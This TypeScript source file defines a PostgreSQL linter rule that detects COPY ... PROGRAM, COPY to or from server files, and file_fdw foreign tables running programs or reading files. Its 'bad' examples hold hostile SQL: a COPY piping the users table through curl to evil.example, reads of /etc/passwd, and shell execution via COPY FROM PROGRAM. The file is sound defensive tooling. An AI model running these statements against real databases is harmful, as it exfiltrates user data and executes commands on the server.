import { inside, pgNode, rangeVarName } from '../src/sql/ast.js';
import type { Rule } from '../src/types.js';
import { withDynamic } from '../src/sql/dynamic.js';

function quote(s: string): string {
  return `'${s.length > 80 ? s.slice(0, 80) + '…' : s}'`;
}

const rule: Rule = {
  meta: {
    id: 'copy-program',
    category: 'execution',
    severity: 'error',
    summary: 'COPY … TO/FROM PROGRAM runs a shell command on the database server; COPY to/from a server file reads or writes its files',
    rationale:
      'COPY … PROGRAM runs its string through the shell of the database server as the server’s OS user (pg_execute_server_program): ' +
      'it is remote code execution. COPY … FROM/TO \'/path\' reads or writes any file that user can (pg_read_server_files / ' +
      'pg_write_server_files): configuration, keys, other databases. A file_fdw foreign table with a `program` or `filename` option ' +
      'does the same on every query. COPY FROM STDIN / TO STDOUT is the client’s data and is not flagged.',
    fix: 'Load data with COPY FROM STDIN (or psql \\copy) from a reviewed file, or through the application; never run programs from a migration.',
    examples: {
      bad: [
        { sql: "COPY users TO PROGRAM 'curl -d @- https://evil.example';" },
        { sql: "COPY t FROM '/etc/passwd';" },
        { sql: "COPY (SELECT * FROM users) TO '/tmp/users.csv' WITH (FORMAT csv);" },
        { sql: "DO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''id'''; END $$;" },
        { sql: "CREATE FOREIGN TABLE f (line text) SERVER files OPTIONS (program 'cat /etc/passwd');" },
      ],
      good: [{ sql: 'COPY t (a, b) FROM stdin;\n1\t2\n\\.\n' }, { sql: 'COPY t TO STDOUT;' }, { sql: "COMMENT ON TABLE t IS 'copy from program';" }],
    },
  },
  kinds: ['CopyStmt', 'CreateForeignTableStmt'],
  check(stmt, { report }) {
    const c = pgNode(stmt, 'CopyStmt');
    if (c && c.filename !== undefined) {
      const what = c.relation ? `table ${rangeVarName(c.relation)}` : 'a query';
      if (c.is_program) {
        report({ message: `COPY ${what} ${c.is_from ? 'FROM' : 'TO'} PROGRAM ${quote(c.filename)}: runs a shell command on the database server${inside(stmt)}.` });
      } else if (c.is_from) {
        report({ message: `COPY ${what} FROM server file ${quote(c.filename)}: reads a file on the database server${inside(stmt)}.` });
      } else {
        report({ message: `COPY ${what} TO server file ${quote(c.filename)}: writes a file on the database server${inside(stmt)}.` });
      }
    }
    const f = pgNode(stmt, 'CreateForeignTableStmt');
    if (f) {
      for (const o of f.options ?? []) {
        const name = String(o?.DefElem?.defname ?? '').toLowerCase();
        const val = o?.DefElem?.arg?.String?.sval;
        const table = rangeVarName(f.base?.relation);
        if (name === 'program') report({ message: `Foreign table ${table} (server ${f.servername}) reads the output of program ${quote(val ?? '?')}: runs a shell command on the database server${inside(stmt)}.` });
        if (name === 'filename') report({ message: `Foreign table ${table} (server ${f.servername}) reads server file ${quote(val ?? '?')}${inside(stmt)}.` });
      }
    }
  },
  // `(?<!\\)`: a psql `\copy` line swallowed into an unparsed statement is the psql-meta-command rule's.
  lexical: [/(?<!\\)\bcopy\b[^;]*?\b(to|from)\s+program\b/, /(?<!\\)\bcopy\b[^;]*?\b(to|from)\s+e?'/, /\boptions\s*\([^)]*\b(program|filename)\s+'/],
};
export default withDynamic(rule);
